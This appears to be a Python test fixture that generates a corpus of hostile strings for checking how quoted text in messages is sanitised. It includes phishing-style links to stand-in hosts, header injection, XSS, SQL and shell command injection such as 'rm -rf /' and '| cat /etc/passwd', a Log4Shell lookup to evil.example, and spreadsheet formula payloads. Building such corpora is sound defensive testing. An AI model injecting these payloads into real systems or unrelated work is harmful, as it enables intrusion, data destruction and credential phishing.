"""Texts that callers of an endpoint, and those who register a model, could put where a message quotes them."""

from itertools import product

HOSTS = (
    "evil.example",
    "evil.com",
    "evil.co.uk",
    "203.0.113.7",
    "xn--e1afmkfd.com",
    "eviI-bank.com",
    "login.aws.evil.io",
)
LINKS = [
    template.format(host)
    for host, template in product(
        HOSTS,
        (
            "http://{}",
            "https://{}/login?x=1",
            "HTTPS://{}/LOGIN",
            "hTTp:\\\\{}",
            "www.{}",
            "{}/reset",
            "{}:8443/",
            "admin@{}",
            "[click](https://{}/)",
            '<a href="http://{}/">b</a>',
            "s3://b/https://{}/x",
        ),
    )
]
SCHEMES = [
    f"{scheme}:{rest}"
    for scheme, rest in product(
        ("ftp", "file", "javascript", "vbscript", "data", "mailto", "tel", "sms", "slack", "skype"),
        ("//evil.example/x", "a@evil.example", "alert(1)"),
    )
]
HIDDEN_LINKS = [
    "ht\u200btp://evil.example",
    "http\u202e://evil.example",
    "http:/\u2060/evil.example",
    "\uff48\uff54\uff54\uff50://evil.example",
    "http://evil\u3002example",
    "http://evil.example\u2024com",
    "hxxp://http://evil.example",
    "http://http://evil.example",
    "://evil.example",
    "//evil.example/x",
    "h\u0336ttp://evil.example",
    "see https://eu-west-1.console.aws.amazon.com.evil.example/s3",
    "https://evil.example/https://eu-west-1.console.aws.amazon.com/",
]
CONTROLS = [f"a{chr(code)}b" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
BIDIRECTIONAL = [
    f"a{mark}b"
    for mark in "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e"
    "\u2066\u2067\u2068\u2069\u206a\u206b\u206c\u206d\u206e\u206f"
]
INVISIBLE = [
    f"a{mark}b"
    for mark in "\u00ad\u034f\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2061\u2062\u2063\u2064\ufeff\ufff9\ufffa\ufffb"
    "\U000e0001\U000e0041\U000e007f\ue000\U000f0000\uffff\ufdd0"
]
SURROGATES = ["\ud800", "\udfff", "a\ud83d", "\ude00b", "\ud800\ud800"]
HEADERS = [
    "b\r\nBcc: everyone@example.com",
    "b\nSubject: all is well",
    "b\r\n\r\n<html>",
    "b\rX-Injected: 1",
    "b\x0bTo: x",
    "b\x0cTo: x",
    "b\x85To: x",
    "b\u2028To: x",
    "=?utf-8?b?QmNjOiB4?=",
    "b\n.\nQUIT",
    "b\r\n.\r\nMAIL FROM:<x>",
    "From b",
    "\n\n\n",
    " \t ",
    "",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>",
    '"><img src=x onerror=alert(1)>',
    "<!channel> <!here> <@U123>",
    "@channel @here @everyone",
    "<at>everyone</at>",
    "```\nx\n```",
    "`rm -rf /`",
    "*bold* _it_ ~no~",
    "&lt;script&gt;",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%0d%0aBcc:%20x",
    "' OR 1=1 --",
    "; rm -rf /",
    "$(reboot)",
    "| cat /etc/passwd",
    "--profile admin",
    "]]>",
    "\\u202e",
    "\\r\\nBcc: x",
    '{"default": "x"}',
    '","subject":"x',
    "%s%n%x",
    "{0}{__class__}",
]
FORMULAS = [f"{first}cmd|' /C calc'!A0" for first in "=+-@\t\r\0"] + ['=HYPERLINK("http://evil.example","b")']
ESCAPES = [
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x1b]8;;http://evil.example\x1b\\b\x1b]8;;\x1b\\",
]
SCRIPTS = [
    "ünïcödé",
    "漢字かな",
    "עברית",
    "العربية",
    "Ελληνικά",
    "кириллица",
    "ไทย",
    "🙂🙃",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "e\u0301",
    "ﬁ",
]
LONG = [
    "x" * 5_000,
    "漢" * 5_000,
    "🙂" * 5_000,
    '"' * 5_000,
    "\\" * 5_000,
    "a " * 5_000,
    "e" + "\u0301" * 5_000,
    "\n" * 5_000,
]

CORPUS = list(
    dict.fromkeys(
        LINKS
        + SCHEMES
        + HIDDEN_LINKS
        + CONTROLS
        + BIDIRECTIONAL
        + INVISIBLE
        + SURROGATES
        + HEADERS
        + MARKUP
        + FORMULAS
        + ESCAPES
        + SCRIPTS
        + LONG
    )
)
